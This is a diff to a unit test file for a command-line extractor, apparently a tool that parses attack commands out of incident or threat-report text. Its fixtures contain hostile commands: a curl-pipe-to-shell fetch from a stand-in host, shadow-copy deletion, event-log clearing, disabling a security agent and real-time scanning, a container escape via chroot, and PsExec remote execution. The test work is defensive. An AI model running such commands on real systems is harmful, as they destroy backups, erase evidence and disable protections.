@@ -109,4 +109,37 @@ describe('extractCmdlines', () => {
     const text = '```\n/usr/sbin/cron -f\n└── /bin/sh -c curl -fsSL http://x.test/r.sh | sh\n    ├── curl -fsSL http://x.test/r.sh\n    └── sh\n```';
     expect(values(text)).toEqual(['/usr/sbin/cron -f', '/bin/sh -c curl -fsSL http://x.test/r.sh | sh', 'curl -fsSL http://x.test/r.sh']);
   });
+
+  it('splits the commands of a page that ran its code lines together, and leaves out the prose between them', () => {
+    const text =
+      'The tool ran the following: vssadmin.exe delete shadows /all /quiet cmd.exe /c wevtutil cl app | wevtutil cl sys cmd.exe /C ping 127.0.0.1 -n 2 > nul && del /F "C:\\x\\e.exe" According to the vendor, these are built in.';
+    expect(values(text)).toEqual([
+      'vssadmin.exe delete shadows /all /quiet',
+      'cmd.exe /c wevtutil cl app | wevtutil cl sys',
+      'cmd.exe /C ping 127.0.0.1 -n 2 > nul && del /F "C:\\x\\e.exe"',
+    ]);
+  });
+
+  it('cuts the description a table row runs on after its command', () => {
+    const text =
+      'Command Purpose reg add "HKLM\\Software\\Acme" /v "Off" /t REG_DWORD /d "1" /f Turns off the acme agent. sc stop acmesvc sc delete acmesvc Removes the agent service. Set-MpPreference -DisableFoo $true Disables real-time scanning via policy.';
+    expect(values(text)).toEqual([
+      'reg add "HKLM\\Software\\Acme" /v "Off" /t REG_DWORD /d "1" /f',
+      'sc stop acmesvc',
+      'sc delete acmesvc',
+      'Set-MpPreference -DisableFoo $true',
+    ]);
+  });
+
+  it('reads a worded tool with its sub-command and object in a sentence, but not before a function word', () => {
+    expect(values('The intruder then used sc delete AcmeGuard to remove the agent.')).toEqual(['sc delete AcmeGuard']);
+    expect(values('Operators like to run net user and group listings first.')).toEqual([]);
+  });
+
+  it('keeps the command a runner hands on (psexec, conhost, kubectl exec --) with its runner', () => {
+    expect(values('```\nkubectl exec -it pod-1 -- chroot /host /bin/bash\nC:\\t\\PsExec64.exe \\\\fs01 -s -d cmd /c "C:\\t\\a.bat"\n```')).toEqual([
+      'kubectl exec -it pod-1 -- chroot /host /bin/bash',
+      'C:\\t\\PsExec64.exe \\\\fs01 -s -d cmd /c "C:\\t\\a.bat"',
+    ]);
+  });
 });
